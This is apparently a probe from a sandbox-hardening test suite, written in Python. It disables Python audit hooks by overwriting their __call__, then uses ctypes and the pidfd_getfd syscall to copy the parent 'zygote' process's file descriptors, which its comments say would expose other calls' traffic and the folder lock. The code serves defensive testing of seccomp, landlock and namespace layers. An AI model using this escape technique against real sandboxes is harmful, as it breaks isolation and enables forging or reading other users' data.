# Steals the zygote's file descriptors: pidfd_open(its parent), then pidfd_getfd for each fd
# number, which would hand it the pool's pipes (to forge or read other calls' traffic) and the
# folder lock. Escaped: it obtained a copy of at least one of the zygote's descriptors.
def pidfd_getfd_zygote(**_):
    import os
    def unhook():  # the audit hook is a Python object: its class's __call__ becomes a no-op
        import gc
        gc.unfreeze()
        for obj in gc.get_objects():
            if "Audit" in type(obj).__name__ and callable(obj):
                try:
                    type(obj).__call__ = lambda self, *args: None
                except (TypeError, AttributeError):
                    pass

    unhook()
    try:
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
    except Exception as exc:  # the audit hook held, or there is no ctypes
        return {"escaped": False, "detail": f"no ctypes: {exc!r}"}
    libc.syscall.restype = ctypes.c_long

    def sys_call(nr, *args):  # (result, errno)
        ctypes.set_errno(0)
        res = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
        return res, (ctypes.get_errno() if res < 0 else 0)
    parent = os.getppid()
    if parent <= 1:
        return {"escaped": False, "detail": f"no parent to aim at (getppid() = {parent})"}
    try:
        pidfd = os.pidfd_open(parent)
    except OSError as exc:
        return {"escaped": False, "detail": f"pidfd_open({parent}) refused: {exc}"}
    got, errors = [], set()
    for fd in range(64):
        res, err = sys_call(438, pidfd, fd, 0)  # pidfd_getfd
        if res >= 0:
            got.append(fd)
            os.close(res)
        else:
            errors.add(os.strerror(err))
    os.close(pidfd)
    return {"escaped": bool(got), "detail": f"copied the zygote's fds {got}; errors: {sorted(errors)}"}


# caps: pidfd_getfd of a process holding a capability the caller lacks needs CAP_SYS_PTRACE.
LAYERS = ("seccomp", "landlock", "pid_namespace", "caps")
NEEDS_ROOT = False
NEEDS = ("ptrace",)  # as an ordinary user, where Yama allows tracing a process that is no descendant
